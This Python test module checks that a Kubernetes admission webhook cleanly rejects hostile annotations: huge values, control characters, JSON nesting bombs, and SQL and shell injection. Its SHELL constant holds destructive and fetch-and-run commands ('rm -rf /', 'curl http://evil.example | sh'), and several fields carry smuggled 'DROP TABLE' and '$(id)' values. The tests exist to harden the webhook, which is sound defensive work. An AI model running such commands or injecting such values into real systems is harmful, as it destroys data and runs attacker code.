"""Hostile annotations over real TLS: huge, not UTF-8, JSON bombs, shell metacharacters.

Each is a clean answer: a denial (HTTP 200, allowed false, code 422) naming the
annotation, or a 4xx for a body that is not JSON at all, or, for shell metacharacters in
a command, an init container whose argv is exactly the text given: no shell runs
anywhere, in the webhook or in what it writes. None of them reaches the database.
"""

from __future__ import annotations

import base64
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from tests.factories import deployment, labelled, review
from tests.reliability.harness import TRANSCRIPT, Database, gate_config, make_orders, report
from tests.server import ROOT, Served, start
from tests.support.servers import PostgresServer
from webhook.contract import MAX_COMMAND_ARGS, MAX_COMMAND_CHARS, MAX_VALUE_CHARS

pytestmark = pytest.mark.faults

MB = 1024 * 1024
SHELL = "rm -rf / ; curl http://evil.example | sh && `id` $(id) ${HOME} > /etc/passwd 2>&1 &"
RESULTS: list[tuple[str, float]] = []


@pytest.fixture(scope="module")
def hostile(
    postgres: PostgresServer, tls_dir: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Served, Database]]:
    database = make_orders(postgres)
    tmp = tmp_path_factory.mktemp("hostile")
    config = tmp / "config.yaml"
    config.write_text(gate_config())
    log = tmp / "serve.log"
    TRANSCRIPT.logs.append(log)
    served = start(config, tls_dir, log, env={"ORDERS_DATABASE_URL": database.url})
    yield served, database
    assert served.stop() == 0


def _inject(annotations: dict[str, str]) -> dict[str, Any]:
    return labelled(deployment(), "inject", {"schemagate.dev/tool": "command", **annotations})


def _gate(annotations: dict[str, str]) -> dict[str, Any]:
    base = {"schemagate.dev/database": "orders", "schemagate.dev/schema-version": "1"}
    return labelled(deployment(), "gate", {**base, **annotations})


def _flat(count: int) -> str:
    return "[" + ",".join(['"a"'] * count) + "]"


DENIED = [
    # huge values
    ("tool 1 MB", _inject({"schemagate.dev/tool": "x" * MB}), "schemagate.dev/tool: 'xxxx"),
    (
        "image 2 MB",
        _inject({"schemagate.dev/command": '["a"]', "schemagate.dev/image": "i" * (2 * MB)}),
        f"schemagate.dev/image: {2 * MB} characters exceeds {MAX_VALUE_CHARS}",
    ),
    (
        "schema-version 2.5 MB",
        _gate({"schemagate.dev/schema-version": "9" * (5 * MB // 2)}),
        f"schemagate.dev/schema-version: {5 * MB // 2} characters exceeds {MAX_VALUE_CHARS}",
    ),
    (
        "unknown schemagate annotation with a 1 MB key",
        _inject({"schemagate.dev/" + "k" * MB: "v", "schemagate.dev/command": '["a"]'}),
        "annotation 'schemagate.dev/kkkk",
    ),
    (
        "command 2 MB",
        _inject({"schemagate.dev/command": _flat(2 * MB // 5)}),
        f"schemagate.dev/command: {len(_flat(2 * MB // 5))} characters exceeds {MAX_COMMAND_CHARS}",
    ),
    # not UTF-8 as the API server relays it (replacement characters), control characters
    (
        "tool with U+FFFD",
        _inject({"schemagate.dev/tool": "flyway\ufffd"}),
        "'flyway\ufffd' is not one of",
    ),
    (
        "container with a bidi override",
        _inject({"schemagate.dev/command": '["a"]', "schemagate.dev/container": "\u202eipa"}),
        "schemagate.dev/container: '\\u202eipa' must not contain spaces or control characters",
    ),
    (
        "database with an escape sequence",
        _gate({"schemagate.dev/database": "orders\x1b[2J"}),
        "schemagate.dev/database: 'orders\\x1b[2J' must not contain spaces or control characters",
    ),
    (
        "command with a lone surrogate escape",
        _inject({"schemagate.dev/command": '["\\ud800"]'}),
        "schemagate.dev/command: '[\"\\\\ud800\"]' is not valid JSON",
    ),
    (
        "command with NUL",
        _inject({"schemagate.dev/command": '["a\\u0000b"]'}),
        "schemagate.dev/command: arguments must not contain NUL characters",
    ),
    # JSON bombs in schemagate.dev/command
    (
        "command nested 8k deep",
        _inject({"schemagate.dev/command": "[" * 8000 + "]" * 8000}),
        "schemagate.dev/command: '[[[[",
    ),
    (
        "command objects nested 2500 deep",
        _inject({"schemagate.dev/command": '{"a":' * 2500 + "1" + "}" * 2500}),
        'schemagate.dev/command: \'{"a":{',
    ),
    (
        "command with 3000 arguments",
        _inject({"schemagate.dev/command": _flat(3000)}),
        f"schemagate.dev/command: 3000 arguments exceeds {MAX_COMMAND_ARGS}",
    ),
    (
        "command of huge numbers",
        _inject({"schemagate.dev/command": "[1e999999, 123456789012345678901234567890]"}),
        "schemagate.dev/command: '[1e999999, 1234",
    ),
    # shell and SQL metacharacters where a name or a version belongs
    (
        "database with SQL",
        _gate({"schemagate.dev/database": "orders';DROP/**/TABLE/**/x;--"}),
        'schemagate.dev/database: unknown database "orders\';DROP/**/TABLE/**/x;--"',
    ),
    (
        "schema-version with SQL",
        _gate({"schemagate.dev/schema-version": "1';DROP/**/TABLE/**/flyway_schema_history;--"}),
        "is not a flyway version; expected dotted numbers such as 42 or 1.10",
    ),
    (
        "container with shell",
        _inject({"schemagate.dev/command": '["a"]', "schemagate.dev/container": "api;$(id)"}),
        "schemagate.dev/container: no container named 'api;$(id)'",
    ),
]


def _post(served: Served, body: bytes) -> tuple[int, bytes, float]:
    started = time.monotonic()
    status, raw = served.request("POST", "/mutate", body)
    took = time.monotonic() - started
    TRANSCRIPT.add(raw)
    RESULTS.append((f"HTTP {status}", took))
    return status, raw, took


@pytest.mark.parametrize(("case", "obj", "says"), DENIED, ids=[c for c, _, _ in DENIED])
def test_hostile_annotations_are_clean_denials(
    hostile: tuple[Served, Database], case: str, obj: dict[str, Any], says: str
) -> None:
    served, _ = hostile
    body = orjson.dumps(review(obj, uid=f"hostile-{case}"))
    assert len(body) <= 3 * MB
    status, raw, took = _post(served, body)
    assert status == 200, raw[:300]
    answer = orjson.loads(raw)["response"]
    assert answer["uid"] == f"hostile-{case}"
    assert answer["allowed"] is False
    assert answer["status"]["code"] == 422
    message = answer["status"]["message"]
    assert message.startswith("shop/api: ") and says in message, message
    # The denial quotes a bad value, never all of it.
    assert len(message) < 600
    assert "\n" not in message and "\x1b" not in message
    assert took < 2.0


NOT_JSON = [
    ("invalid UTF-8 bytes in an annotation", b'"\xff\xfeflyway"'),
    ("a lone surrogate escape in an annotation", b'"\\ud800"'),
    ("an object nested 100k deep", b"[" * 100_000 + b"]" * 100_000),
]


@pytest.mark.parametrize(("case", "value"), NOT_JSON, ids=[c for c, _ in NOT_JSON])
def test_bodies_that_are_not_json_get_a_4xx(
    hostile: tuple[Served, Database], case: str, value: bytes
) -> None:
    served, _ = hostile
    body = orjson.dumps(review(_inject({"schemagate.dev/tool": "@@"}))).replace(b'"@@"', value)
    status, raw, took = _post(served, body)
    assert (status, raw) == (400, b"body is not valid JSON\n")
    assert took < 2.0


def _patch(raw: bytes) -> list[dict[str, Any]]:
    answer = orjson.loads(raw)["response"]
    assert answer["allowed"] is True, answer
    ops: list[dict[str, Any]] = orjson.loads(base64.b64decode(answer["patch"]))
    return ops


def test_shell_metacharacters_are_argv_text_never_a_shell(
    hostile: tuple[Served, Database],
) -> None:
    served, _ = hostile
    argv = ["/bin/migrate", SHELL, "$(DATABASE_URL)", "'; exec sh #", "a\nb"]
    obj = _inject(
        {"schemagate.dev/command": orjson.dumps(argv).decode(), "schemagate.dev/image": "img;$(id)"}
    )
    status, raw, _ = _post(served, orjson.dumps(review(obj)))
    assert status == 200
    [op] = _patch(raw)
    container = op["value"][0]
    # Exactly the argv given, as `command` (exec form): Kubernetes runs it without a
    # shell and expands only $(VAR) references to the container's own environment.
    assert container["command"] == argv
    assert container["image"] == "img;$(id)"
    assert "args" not in container


def test_no_hostile_input_reached_the_database_or_a_shell(
    hostile: tuple[Served, Database],
) -> None:
    served, database = hostile
    assert served.metric("schemagate_lookups_total") == 0
    with database.server.connect(database.name) as conn:
        rows = conn.execute("SELECT count(*) FROM flyway_schema_history").fetchone()
    assert rows == (3,)
    children = [
        child
        for task in Path(f"/proc/{served.proc.pid}/task").iterdir()
        for child in (task / "children").read_text().split()
    ]
    assert children == []
    # And nothing in the webhook could start one.
    spawn = re.compile(
        r"\b(subprocess|os\.system|os\.popen|os\.exec\w*|os\.spawn\w*|create_subprocess_\w+|shell=True)\b"
    )
    sources = [*(ROOT / "webhook").rglob("*.py"), *(ROOT / "certs").rglob("*.py")]
    assert [str(p.relative_to(ROOT)) for p in sources if spawn.search(p.read_text())] == []
    took = [t for _, t in RESULTS]
    report(
        "hostile annotations and bodies",
        len(RESULTS),
        len(RESULTS),
        0,
        f"{sum(s == 'HTTP 200' for s, _ in RESULTS)} clean denials or patches, "
        f"{sum(s != 'HTTP 200' for s, _ in RESULTS)} 4xx; slowest {max(took):.2f} s",
    )
